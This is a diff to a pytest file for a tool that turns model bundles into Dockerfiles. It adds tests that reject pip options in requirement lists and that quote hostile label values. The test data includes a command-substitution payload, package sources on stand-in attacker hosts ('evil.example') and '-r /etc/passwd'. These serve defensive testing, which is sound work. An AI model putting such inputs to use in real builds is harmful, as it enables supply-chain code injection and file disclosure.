@@ -140,3 +140,11 @@ def test_hostile_bundle_fields_are_refused_or_quoted(stub_bundle, tmp_path: Path
     text = render(stub_bundle, out_dir=tmp_path / "b").dockerfile.read_text()
     labels = {k: v for i in instructions(text) if i.cmd == "LABEL" for k, v in key_values(i.args).items()}
     assert labels["io.mlpack.model.framework"] == 'sk"learn $(touch /tmp/pwned)'
+
+
+@pytest.mark.parametrize("line", ["--extra-index-url https://evil.example/simple", "-e git+https://evil/x",
+                                  "-r /etc/passwd"])
+def test_a_lock_with_pip_options_is_refused(stub_bundle, tmp_path: Path, line: str) -> None:
+    stub_bundle.requirements = [*stub_bundle.requirements, line]
+    with pytest.raises(RenderError, match="pip option"):
+        render(stub_bundle, out_dir=tmp_path / "ctx")
